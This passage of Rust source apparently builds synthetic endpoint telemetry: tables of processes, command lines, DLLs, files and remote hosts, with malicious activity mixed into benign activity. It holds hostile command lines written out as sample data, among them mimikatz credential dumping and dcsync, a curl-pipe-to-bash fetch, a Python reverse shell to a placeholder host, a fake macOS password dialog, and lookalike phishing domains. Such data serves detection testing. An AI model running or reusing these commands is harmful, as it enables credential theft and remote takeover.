        cmds: &[
            (
                "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
                2,
            ),
            (
                "C:\\Windows\\system32\\CompatTelRunner.exe -m:generaltel.dll -f:DoCensusRun -cv:{{hex16}}.2",
                1,
            ),
        ],
        acts: [5, 3, 10, 5, 10, 1],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "SearchIndexer.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Microsoft Windows Search Indexer", "SearchIndexer.exe"),
        size: 1_012_224,
        hosts: WKS,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[("C:\\Windows\\system32\\SearchIndexer.exe /Embedding", 1)],
        acts: [1, 0, 20, 5, 5, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "SearchProtocolHost.exe",
        dir: "C:\\Windows\\System32",
        ver: win(
            "Microsoft Windows Search Protocol Host",
            "SearchProtocolHost.exe",
        ),
        size: 442_368,
        hosts: WKS,
        run_as: RunAs::System,
        parents: &[("SearchIndexer.exe", 1)],
        cmds: &[(
            "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{{n2}}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{{n2}} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ",
            1,
        )],
        acts: [30, 0, 10, 2, 10, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "backgroundTaskHost.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Background Task Host", "backgroundTaskHost.exe"),
        size: 37_896,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("svchost.exe", 1)],
        cmds: &[
            (
                "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
                2,
            ),
            (
                "\"C:\\Windows\\system32\\BackgroundTaskHost.exe\" -ServerName:App.AppXmtcan0gkeb5ttsq8gnyyqyvwf9e7d6ww.mca",
                1,
            ),
        ],
        acts: [25, 5, 3, 3, 10, 0],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "chrome.exe",
        dir: "C:\\Program Files\\Google\\Chrome\\Application",
        ver: ver(
            "Google LLC",
            "Google Chrome",
            "131.0.6778.86",
            "Google Chrome",
            "chrome.exe",
        ),
        size: 3_207_960,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 3), ("chrome.exe", 10)],
        cmds: CHROMIUM_CMDS,
        acts: [120, 120, 20, 5, 30, 8],
        net: Net::Browser,
    },
    ProcSpec {
        name: "msedge.exe",
        dir: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Edge",
            "131.0.2903.70",
            "Microsoft Edge",
            "msedge.exe",
        ),
        size: 4_113_440,
        hosts: WIN,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 3), ("msedge.exe", 10), ("OUTLOOK.EXE", 1)],
        cmds: CHROMIUM_CMDS,
        acts: [100, 100, 20, 8, 30, 10],
        net: Net::Browser,
    },
    ProcSpec {
        name: "WINWORD.EXE",
        dir: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Office",
            "16.0.18025.20160",
            "Microsoft Word",
            "WinWord.exe",
        ),
        size: 1_621_352,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 10), ("OUTLOOK.EXE", 3)],
        cmds: &[
            (
                "\"{{self}}\" /n \"C:\\Users\\{{user}}\\Downloads\\{{doc}}.docx\" /o \"\"",
                4,
            ),
            ("\"{{self}}\" ", 2),
            ("\"{{self}}\" /Automation -Embedding", 1),
        ],
        acts: [8, 10, 25, 15, 25, 3],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "EXCEL.EXE",
        dir: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Office",
            "16.0.18025.20160",
            "Microsoft Excel",
            "Excel.exe",
        ),
        size: 2_083_648,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 10), ("OUTLOOK.EXE", 3)],
        cmds: &[
            (
                "\"{{self}}\" \"C:\\Users\\{{user}}\\OneDrive - Contoso\\Documents\\{{doc}}.xlsx\"",
                4,
            ),
            ("\"{{self}}\" ", 2),
        ],
        acts: [6, 8, 20, 12, 20, 3],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "OUTLOOK.EXE",
        dir: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Office",
            "16.0.18025.20160",
            "Microsoft Outlook",
            "Outlook.exe",
        ),
        size: 1_945_480,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 1)],
        cmds: &[("\"{{self}}\" ", 3), ("\"{{self}}\" /recycle", 1)],
        acts: [5, 30, 25, 15, 15, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "ms-teams.exe",
        dir: "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Teams",
            "24295.605.3225.8804",
            "Microsoft Teams",
            "ms-teams.exe",
        ),
        size: 1_380_720,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 1)],
        cmds: &[
            ("\"{{self}}\" msteams:system-initiated", 3),
            ("\"{{self}}\" ", 1),
        ],
        acts: [20, 60, 15, 5, 15, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "OneDrive.exe",
        dir: "C:\\Users\\{{user}}\\AppData\\Local\\Microsoft\\OneDrive",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft OneDrive",
            "24.201.1006.0005",
            "Microsoft OneDrive",
            "OneDrive.exe",
        ),
        size: 3_675_008,
        hosts: WKS,
        run_as: RunAs::User,
        parents: &[("explorer.exe", 1)],
        cmds: &[
            ("\"{{self}}\" /background", 3),
            ("\"{{self}}\" /updateInstalled /background", 1),
        ],
        acts: [8, 40, 40, 10, 15, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "notepad.exe",
        dir: "C:\\Windows\\System32",
        ver: win("Notepad", "NOTEPAD.EXE"),
        size: 201_216,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("explorer.exe", 1)],
        cmds: &[
            (
                "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{{user}}\\Desktop\\{{doc}}.txt",
                2,
            ),
            ("\"C:\\Windows\\system32\\NOTEPAD.EXE\" ", 1),
        ],
        acts: [5, 0, 5, 2, 5, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "AgentExecutor.exe",
        dir: "C:\\Program Files (x86)\\Microsoft Intune Management Extension",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft Intune Management Extension",
            "1.83.107.0",
            "Microsoft Intune Management Extension",
            "AgentExecutor.exe",
        ),
        size: 44_936,
        hosts: WKS,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[(
            "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe\"  -powershellDetection \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\DetectionScripts\\{{guid}}_1.ps1\" \"C:\\Windows\\IMECache\\HealthScripts\\{{guid}}_1\\detect.output\" \"\" \"\" \"\" 1 0",
            1,
        )],
        acts: [10, 5, 10, 2, 8, 1],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "sqlservr.exe",
        dir: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn",
        ver: ver(
            "Microsoft Corporation",
            "Microsoft SQL Server",
            "2022.160.4135.4",
            "SQL Server Windows NT - 64 Bit",
            "SQLSERVR.EXE",
        ),
        size: 652_200,
        hosts: Role::Sql.bit(),
        run_as: RunAs::Account("svc_sql"),
        parents: &[("services.exe", 1)],
        cmds: &[(
            "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
            1,
        )],
        acts: [1, 60, 30, 3, 10, 2],
        net: Net::Server(&[1433]),
    },
    ProcSpec {
        name: "w3wp.exe",
        dir: "C:\\Windows\\System32\\inetsrv",
        ver: win("IIS Worker Process", "w3wp.exe"),
        size: 31_744,
        hosts: Role::Web.bit() | Role::App.bit(),
        run_as: RunAs::NetworkService,
        parents: &[("svchost.exe", 1)],
        cmds: &[(
            "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm{{guid}} -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\" -w \"\" -m 0",
            1,
        )],
        acts: [1, 60, 20, 2, 20, 2],
        net: Net::Server(&[443, 80]),
    },
    ProcSpec {
        name: "ntdsutil.exe",
        dir: "C:\\Windows\\System32",
        ver: win("NT5DS", "ntdsutil.exe"),
        size: 434_176,
        hosts: Role::Dc.bit(),
        run_as: RunAs::Inherit,
        parents: &[("cmd.exe", 1), ("powershell.exe", 1)],
        cmds: &[(
            "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ntds\" q q",
            1,
        )],
        acts: [1, 0, 1, 0, 1, 0],
        net: Net::None,
    },
    ProcSpec {
        name: "mk.exe",
        dir: "C:\\Users\\Public",
        ver: ver(
            "gentilkiwi (Benjamin DELPY)",
            "mimikatz",
            "2.2.0.0",
            "mimikatz for Windows",
            "mimikatz.exe",
        ),
        size: 1_355_264,
        hosts: WIN,
        run_as: RunAs::Inherit,
        parents: &[("powershell.exe", 2), ("cmd.exe", 1)],
        cmds: &[
            (
                "mk.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
                2,
            ),
            (
                "mk.exe \"lsadump::dcsync /domain:corp.contoso.com /user:krbtgt\" exit",
                1,
            ),
        ],
        acts: [1, 0, 1, 0, 3, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "PSEXESVC.exe",
        dir: "C:\\Windows",
        ver: ver(
            "Sysinternals - www.sysinternals.com",
            "Sysinternals PsExec",
            "2.43",
            "PsExec Service",
            "psexesvc.exe",
        ),
        size: 179_608,
        hosts: SRV,
        run_as: RunAs::System,
        parents: &[("services.exe", 1)],
        cmds: &[("C:\\Windows\\PSEXESVC.exe", 1)],
        acts: [1, 1, 1, 1, 2, 1],
        net: Net::Internal,
    },
    ProcSpec {
        name: "systemd",
        dir: "/usr/lib/systemd",
        ver: NO_VERSION,
        size: 1_849_456,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("systemd", 1)],
        cmds: &[
            ("/usr/lib/systemd/systemd --system --deserialize 31", 1),
            ("/sbin/init splash", 1),
        ],
        acts: [5, 0, 5, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "sshd",
        dir: "/usr/sbin",
        ver: NO_VERSION,
        size: 921_136,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("systemd", 1)],
        cmds: &[("sshd: {{user}} [priv]", 3), ("/usr/sbin/sshd -D", 1)],
        acts: [8, 10, 3, 0, 0, 2],
        net: Net::Server(&[22]),
    },
    ProcSpec {
        name: "bash",
        dir: "/usr/bin",
        ver: NO_VERSION,
        size: 1_396_520,
        hosts: LNX,
        run_as: RunAs::User,
        parents: &[("sshd", 5), ("cron", 3), ("sudo", 1)],
        cmds: &[
            ("-bash", 5),
            ("/bin/bash /opt/backup/run-backup.sh", 3),
            ("/bin/bash -c \"df -h | mail -s disk ops@contoso.com\"", 1),
            ("bash -c \"curl -fsSL http://{{evil}}/x.sh | bash\"", 1),
        ],
        acts: [30, 1, 15, 0, 0, 2],
        net: Net::None,
    },
    ProcSpec {
        name: "python3.10",
        dir: "/usr/bin",
        ver: NO_VERSION,
        size: 5_904_904,
        hosts: LNX,
        run_as: RunAs::User,
        parents: &[("bash", 3), ("systemd", 2), ("cron", 1)],
        cmds: &[
            ("/usr/bin/python3 /usr/bin/unattended-upgrade", 3),
            ("/usr/bin/python3 /opt/app/manage.py runworker", 4),
            (
                "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{{evilip}}\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                1,
            ),
        ],
        acts: [15, 30, 25, 0, 0, 3],
        net: Net::Unix,
    },
    ProcSpec {
        name: "cron",
        dir: "/usr/sbin",
        ver: NO_VERSION,
        size: 55_944,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("systemd", 1)],
        cmds: &[("/usr/sbin/cron -f -P", 1)],
        acts: [20, 0, 2, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "curl",
        dir: "/usr/bin",
        ver: NO_VERSION,
        size: 260_328,
        hosts: LNX | MAC,
        run_as: RunAs::Inherit,
        parents: &[("bash", 4), ("python3.10", 1), ("zsh", 3)],
        cmds: &[
            (
                "curl -s https://api.github.com/repos/contoso/app/releases/latest",
                3,
            ),
            (
                "curl -fsSL https://packages.microsoft.com/keys/microsoft.asc",
                2,
            ),
            ("curl -o /tmp/.x http://{{evil}}/k", 1),
        ],
        acts: [15, 20, 5, 0, 0, 1],
        net: Net::Unix,
    },
    ProcSpec {
        name: "nginx",
        dir: "/usr/sbin",
        ver: NO_VERSION,
        size: 1_190_800,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("systemd", 1)],
        cmds: &[
            ("nginx: worker process", 3),
            (
                "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
                1,
            ),
        ],
        acts: [3, 60, 10, 0, 0, 1],
        net: Net::Server(&[443, 80]),
    },
    ProcSpec {
        name: "wdavdaemon",
        dir: "/opt/microsoft/mdatp/sbin",
        ver: NO_VERSION,
        size: 8_421_376,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("systemd", 1)],
        cmds: &[(
            "/opt/microsoft/mdatp/sbin/wdavdaemon edr 13 21 --log_level info",
            1,
        )],
        acts: [2, 30, 30, 0, 0, 2],
        net: Net::Microsoft,
    },
    ProcSpec {
        name: "sudo",
        dir: "/usr/bin",
        ver: NO_VERSION,
        size: 232_416,
        hosts: LNX,
        run_as: RunAs::Root,
        parents: &[("bash", 1)],
        cmds: &[
            ("sudo systemctl restart nginx", 3),
            ("sudo apt-get -y upgrade", 2),
            ("sudo -i", 1),
        ],
        acts: [10, 0, 2, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "launchd",
        dir: "/sbin",
        ver: APPLE,
        size: 1_003_920,
        hosts: MAC,
        run_as: RunAs::Root,
        parents: &[("launchd", 1)],
        cmds: &[("/sbin/launchd", 1)],
        acts: [10, 0, 5, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "loginwindow",
        dir: "/System/Library/CoreServices/loginwindow.app/Contents/MacOS",
        ver: APPLE,
        size: 2_653_456,
        hosts: MAC,
        run_as: RunAs::Root,
        parents: &[("launchd", 1)],
        cmds: &[(
            "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console",
            1,
        )],
        acts: [2, 0, 2, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "Terminal",
        dir: "/System/Applications/Utilities/Terminal.app/Contents/MacOS",
        ver: APPLE,
        size: 5_021_472,
        hosts: MAC,
        run_as: RunAs::User,
        parents: &[("launchd", 1)],
        cmds: &[(
            "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
            1,
        )],
        acts: [2, 0, 2, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "zsh",
        dir: "/bin",
        ver: APPLE,
        size: 1_377_008,
        hosts: MAC,
        run_as: RunAs::User,
        parents: &[("Terminal", 1)],
        cmds: &[("-zsh", 5), ("/bin/zsh -c \"brew update\"", 1)],
        acts: [15, 0, 5, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "Google Chrome",
        dir: "/Applications/Google Chrome.app/Contents/MacOS",
        ver: NO_VERSION,
        size: 181_648,
        hosts: MAC,
        run_as: RunAs::User,
        parents: &[("launchd", 1)],
        cmds: &[(
            "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
            1,
        )],
        acts: [20, 60, 10, 0, 0, 2],
        net: Net::Browser,
    },
    ProcSpec {
        name: "mdworker_shared",
        dir: "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support",
        ver: APPLE,
        size: 158_816,
        hosts: MAC,
        run_as: RunAs::User,
        parents: &[("launchd", 1)],
        cmds: &[(
            "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared",
            1,
        )],
        acts: [20, 0, 20, 0, 0, 1],
        net: Net::None,
    },
    ProcSpec {
        name: "osascript",
        dir: "/usr/bin",
        ver: APPLE,
        size: 136_720,
        hosts: MAC,
        run_as: RunAs::Inherit,
        parents: &[("zsh", 1)],
        cmds: &[
            (
                "osascript -e 'tell application \"System Events\" to get name of every process'",
                3,
            ),
            (
                "osascript -e 'display dialog \"macOS needs to access System Settings\" default answer \"\" with hidden answer'",
                1,
            ),
        ],
        acts: [1, 0, 1, 0, 0, 1],
        net: Net::None,
    },
];

/// Chromium browsers: the browser itself, its renderers and utilities.
const CHROMIUM_CMDS: &[(&str, u16)] = &[
    ("\"{{self}}\" ", 5),
    (
        "\"{{self}}\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={{n3}} --time-ticks-at-unix-epoch=-{{n16}} --launch-time-ticks={{n10}} --field-trial-handle={{n4}},i,{{n19}},{{n19}},262144 --mojo-platform-channel-handle={{n4}} /prefetch:1",
        20,
    ),
    (
        "\"{{self}}\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={{n4}} --field-trial-handle={{n4}},i,{{n19}},{{n19}},262144 /prefetch:11",
        6,
    ),
    ("\"{{self}}\" --single-argument https://{{web}}/", 2),
];

/// A DLL of the image-load pool.
struct DllSpec {
    name: &'static str,
    dir: &'static str,
    company: &'static str,
    size: u32,
    weight: u16,
}

const fn dll(
    name: &'static str,
    dir: &'static str,
    company: &'static str,
    size: u32,
    weight: u16,
) -> DllSpec {
    DllSpec {
        name,
        dir,
        company,
        size,
        weight,
    }
}

const SYS32: &str = "C:\\Windows\\System32";
const MS: &str = "Microsoft Corporation";

const DLLS: &[DllSpec] = &[
    dll("ntdll.dll", SYS32, MS, 2_183_696, 40),
    dll("kernel32.dll", SYS32, MS, 774_896, 40),
    dll("KernelBase.dll", SYS32, MS, 3_919_616, 40),
    dll("user32.dll", SYS32, MS, 1_842_224, 25),
    dll("advapi32.dll", SYS32, MS, 711_952, 25),
    dll("combase.dll", SYS32, MS, 3_621_480, 20),
    dll("ole32.dll", SYS32, MS, 1_627_632, 15),
    dll("oleaut32.dll", SYS32, MS, 847_872, 12),
    dll("shell32.dll", SYS32, MS, 7_673_336, 12),
    dll("ws2_32.dll", SYS32, MS, 415_744, 12),
    dll("crypt32.dll", SYS32, MS, 1_632_256, 10),
    dll("bcrypt.dll", SYS32, MS, 166_400, 10),
    dll("wininet.dll", SYS32, MS, 4_980_224, 8),
    dll("winhttp.dll", SYS32, MS, 1_610_752, 8),
    dll("dnsapi.dll", SYS32, MS, 845_824, 8),
    dll("amsi.dll", SYS32, MS, 94_208, 6),
    dll(
        "clr.dll",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319",
        MS,
        10_590_360,
        5,
    ),
    dll("mscoree.dll", SYS32, MS, 438_784, 5),
    dll(
        "System.Management.Automation.ni.dll",
        "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\a3d2c5b9e0f1427a8b6c1d0e9f8a7b6c",
        MS,
        37_814_784,
        4,
    ),
    dll("taskschd.dll", SYS32, MS, 791_040, 3),
    dll("samlib.dll", SYS32, MS, 144_384, 2),
    dll("vaultcli.dll", SYS32, MS, 241_664, 1),
    dll("dbghelp.dll", SYS32, MS, 1_869_824, 2),
    dll("dbgcore.dll", SYS32, MS, 167_936, 1),
    dll("wldap32.dll", SYS32, MS, 454_656, 3),
    dll("vbscript.dll", SYS32, MS, 577_536, 1),
    dll("vcruntime140.dll", SYS32, MS, 120_432, 8),
    dll(
        "chrome_elf.dll",
        "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86",
        "Google LLC",
        1_412_128,
        5,
    ),
    dll("beacon.dll", "C:\\Users\\Public", "", 289_792, 1),
];

/// A kind of file of the file pool (`#` = digit, `%` = hex digit).
struct FileKind {
    dir: &'static str,
    names: &'static [&'static str],
    count: usize,
    /// Share of file activity.
    weight: f64,
    hosts: u16,
    origin: bool,
    malicious: bool,
}

const FILE_KINDS: &[FileKind] = &[
    FileKind {
        dir: "C:\\Users\\{{user}}\\OneDrive - Contoso\\Documents",
        names: &[
            "Q3 Budget Review.xlsx",
            "Q4 Budget Review.xlsx",
            "Quarterly Report FY26 Q1.docx",
            "Meeting Notes 2026-0#-1#.docx",
            "Rechnung_2026-####.pdf",
            "Facture n°####.pdf",
            "Résumé - José García.docx",
            "Contrato_####.pdf",
            "見積書_####.xlsx",
            "Roadmap 2026 v#.pptx",
            "Übersicht Kunden.xlsx",
            "Customer List ####.csv",
            "Payroll_Jan2026.xlsx",
        ],
        count: 500,
        weight: 20.0,
        hosts: WKS,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Users\\{{user}}\\Downloads",
        names: &[
            "ChromeSetup.exe",
            "ZoomInstallerFull.msi",
            "npp.8.6.9.Installer.x64.exe",
            "Invoice_####.zip",
            "statement_%%%%%%.pdf",
            "vlc-3.0.21-win64.exe",
            "7z2408-x64.exe",
            "scan_####.pdf",
            "order-confirmation-####.html",
            "Teams_windows_x64.msi",
        ],
        count: 250,
        weight: 8.0,
        hosts: WKS,
        origin: true,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Users\\{{user}}\\AppData\\Local\\Temp",
        names: &[
            "~DF%%%%%%%%%%%%%%.TMP",
            "tmp%%%%.tmp",
            "__PSScriptPolicyTest_%%%%%%%%.%%%.ps1",
            "chrome_%%%%%%.tmp",
        ],
        count: 300,
        weight: 25.0,
        hosts: WKS,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Windows\\Temp",
        names: &[
            "MpCmdRun.log",
            "%%%%%%%%-%%%%-%%%%-%%%%-%%%%%%%%%%%%.tmp",
            "SDIAG_%%%%%%%%.tmp",
        ],
        count: 120,
        weight: 10.0,
        hosts: WIN,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Windows\\Prefetch",
        names: &[
            "POWERSHELL.EXE-%%%%%%%%.pf",
            "CMD.EXE-%%%%%%%%.pf",
            "SVCHOST.EXE-%%%%%%%%.pf",
            "CHROME.EXE-%%%%%%%%.pf",
            "MSEDGE.EXE-%%%%%%%%.pf",
        ],
        count: 80,
        weight: 6.0,
        hosts: WIN,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Windows\\SoftwareDistribution\\Download\\%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%",
        names: &[
            "windows11.0-kb50#####-x64.cab",
            "am_delta_patch_1.421.####.0.exe",
        ],
        count: 60,
        weight: 3.0,
        hosts: WIN,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "D:\\Shares\\Finance\\2026",
        names: &[
            "Budget ####.xlsx",
            "Vendor Payments Q4.xlsx",
            "Gehaltsliste_2026.xlsx",
            "Audit FY25 ####.pdf",
        ],
        count: 150,
        weight: 20.0,
        hosts: Role::FileServer.bit(),
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\inetpub\\logs\\LogFiles\\W3SVC1",
        names: &["u_ex2601##.log"],
        count: 30,
        weight: 10.0,
        hosts: Role::Web.bit() | Role::App.bit(),
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Backup",
        names: &["Finance_####.bak", "CRM_####.bak", "master.bak"],
        count: 30,
        weight: 10.0,
        hosts: Role::Sql.bit() | Role::Dc.bit(),
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "/var/log/nginx",
        names: &["access.log", "error.log", "access.log.#"],
        count: 20,
        weight: 10.0,
        hosts: LNX,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "/opt/app/uploads",
        names: &["img_#####.jpg", "report_####.pdf", "export_%%%%%%.csv"],
        count: 100,
        weight: 10.0,
        hosts: LNX,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "/tmp",
        names: &[
            "tmp.%%%%%%%%%%",
            "systemd-private-%%%%%%%%",
            "pip-install-%%%%%%",
        ],
        count: 60,
        weight: 6.0,
        hosts: LNX,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "/Users/{{user}}/Downloads",
        names: &[
            "Zoom.pkg",
            "invoice_####.pdf",
            "ChatGPT.dmg",
            "Screenshot 2026-01-## at 1#.##.png",
        ],
        count: 80,
        weight: 10.0,
        hosts: MAC,
        origin: true,
        malicious: false,
    },
    FileKind {
        dir: "/Users/{{user}}/Library/Caches/com.google.Chrome/Default/Cache",
        names: &["%%%%%%%%%%%%%%%%_0", "index-dir"],
        count: 60,
        weight: 10.0,
        hosts: MAC,
        origin: false,
        malicious: false,
    },
    FileKind {
        dir: "C:\\Users\\Public",
        names: &["p.exe", "%%%%%%%%.exe", "run.dll", "enc.txt", "svchost.exe"],
        count: 12,
        weight: 1.0,
        hosts: WIN,
        origin: false,
        malicious: true,
    },
    FileKind {
        dir: "C:\\Windows\\Temp",
        names: &["lsass.dmp", "%%%%.dmp", "sam.save", "ntds.dit"],
        count: 6,
        weight: 1.0,
        hosts: WIN,
        origin: false,
        malicious: true,
    },
    FileKind {
        dir: "/tmp",
        names: &[".x", "kdevtmpfsi", ".ICE-unix/x.sh"],
        count: 4,
        weight: 1.0,
        hosts: LNX,
        origin: false,
        malicious: true,
    },
];

/// A remote host of the endpoint pool.
struct HostSpec {
    cat: EpCat,
    /// "" = reached by address only.
    host: &'static str,
    prefixes: &'static [&'static str],
    port: u16,
}

const fn host(
    cat: EpCat,
    host: &'static str,
    prefixes: &'static [&'static str],
    port: u16,
) -> HostSpec {
    HostSpec {
        cat,
        host,
        prefixes,
        port,
    }
}

const HOSTS: &[HostSpec] = &[
    host(
        EpCat::Microsoft,
        "login.microsoftonline.com",
        &["20.190.151.", "40.126.32."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "winatp-gw-weu.microsoft.com",
        &["20.50.201."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "eu-v20.events.data.microsoft.com",
        &["20.42.65."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "settings-win.data.microsoft.com",
        &["20.44.229."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "outlook.office365.com",
        &["52.97.", "40.99."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "graph.microsoft.com",
        &["20.190.152."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "contoso.sharepoint.com",
        &["13.107.136."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "teams.microsoft.com",
        &["52.113.194."],
        443,
    ),
    host(
        EpCat::Microsoft,
        "ctldl.windowsupdate.com",
        &["93.184.221."],
        80,
    ),
    host(
        EpCat::Microsoft,
        "officeclient.microsoft.com",
        &["52.109.8."],
        443,
    ),
    host(EpCat::Microsoft, "wdcp.microsoft.com", &["20.61.103."], 443),
    host(EpCat::Microsoft, "time.windows.com", &["168.61.215."], 123),
    host(
        EpCat::Web,
        "www.google.com",
        &["142.250.185.", "142.250.186."],
        443,
    ),
    host(EpCat::Web, "www.youtube.com", &["142.250."], 443),
    host(EpCat::Web, "www.linkedin.com", &["13.107.42."], 443),
    host(EpCat::Web, "github.com", &["140.82.121."], 443),
    host(EpCat::Web, "app.slack.com", &["3.33.", "34.225."], 443),
    host(EpCat::Web, "zoom.us", &["170.114."], 443),
    host(EpCat::Web, "www.bbc.co.uk", &["151.101."], 443),
    host(EpCat::Web, "stackoverflow.com", &["104.18."], 443),
    host(EpCat::Web, "www.heise.de", &["193.99.144."], 443),
    host(EpCat::Web, "cdn.jsdelivr.net", &["104.16."], 443),
    host(EpCat::Web, "de.wikipedia.org", &["185.15.59."], 443),
    host(EpCat::Web, "www.amazon.de", &["52.94."], 443),
    host(EpCat::Web, "docs.google.com", &["142.250.184."], 443),
    host(EpCat::Repo, "archive.ubuntu.com", &["185.125.190."], 80),
    host(EpCat::Repo, "security.ubuntu.com", &["91.189.91."], 80),
    host(EpCat::Repo, "pypi.org", &["151.101."], 443),
    host(EpCat::Repo, "files.pythonhosted.org", &["151.101."], 443),
    host(
        EpCat::Repo,
        "registry-1.docker.io",
        &["54.227.", "3.216."],
        443,
    ),
    host(EpCat::Repo, "packages.microsoft.com", &["13.80.99."], 443),
    host(
        EpCat::Repo,
        "objects.githubusercontent.com",
        &["185.199.108."],
        443,
    ),
    host(EpCat::Bad, "cdn-update-check.xyz", &["185.220.101."], 443),
    host(
        EpCat::Bad,
        "login-microsoftonline-secure.com",
        &["45.142.212."],
        443,
    ),
